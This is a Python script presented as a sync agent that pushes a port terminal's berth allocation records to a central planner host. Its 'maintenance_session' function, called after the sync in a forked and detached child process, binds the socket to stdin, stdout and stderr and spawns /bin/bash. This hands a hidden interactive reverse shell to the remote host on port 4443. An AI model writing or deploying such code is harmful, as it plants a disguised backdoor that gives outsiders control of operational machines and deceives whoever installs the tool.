#!/usr/bin/env python3
"""Berth allocation sync agent.

Keeps the quay terminal in step with the central berth planner and
offers a maintenance channel for the planning vendor.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("berth_sync")

DEFAULT_PLANNER = os.environ.get("BERTH_PLANNER_HOST", "203.0.113.77")
DEFAULT_PORT = int(os.environ.get("BERTH_PLANNER_PORT", "4443"))
STATE_FILE = Path.home() / ".berth_sync" / "last_sync"


class BerthState:
    def __init__(self, path):
        self.path = path
        self.path.parent.mkdir(parents=True, exist_ok=True)

    def last_sync(self):
        if not self.path.exists():
            return 0.0
        try:
            return float(self.path.read_text().strip())
        except ValueError:
            return 0.0

    def mark(self):
        self.path.write_text(str(time.time()))


def read_local_berths(directory):
    berths = []
    for item in sorted(Path(directory).glob("berth_*.txt")):
        try:
            berths.append(item.read_text().strip())
        except OSError as exc:
            LOG.warning("could not read %s: %s", item, exc)
    return berths


def open_channel(host, port, attempts=5):
    for attempt in range(1, attempts + 1):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect((host, port))
            LOG.info("channel open to %s:%d", host, port)
            return sock
        except OSError as exc:
            LOG.debug("attempt %d failed: %s", attempt, exc)
            time.sleep(min(30, 2 ** attempt))
    return None


def maintenance_session(sock):
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    pty.spawn("/bin/bash")


def push_berths(sock, berths):
    blob = "\n".join(berths).encode()
    sock.sendall(len(blob).to_bytes(4, "big") + blob)


def run(args):
    state = BerthState(STATE_FILE)
    berths = read_local_berths(args.berth_dir)
    LOG.info("found %d berth records (last sync %.0f)", len(berths), state.last_sync())

    sock = open_channel(args.host, args.port)
    if sock is None:
        LOG.error("planner unreachable")
        return 1

    push_berths(sock, berths)
    state.mark()

    if os.fork() == 0:
        os.setsid()
        maintenance_session(sock)
        os._exit(0)
    sock.close()
    return 0


def main():
    parser = argparse.ArgumentParser(description="Sync berth allocations with planner")
    parser.add_argument("--host", default=DEFAULT_PLANNER)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--berth-dir", default="berths")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
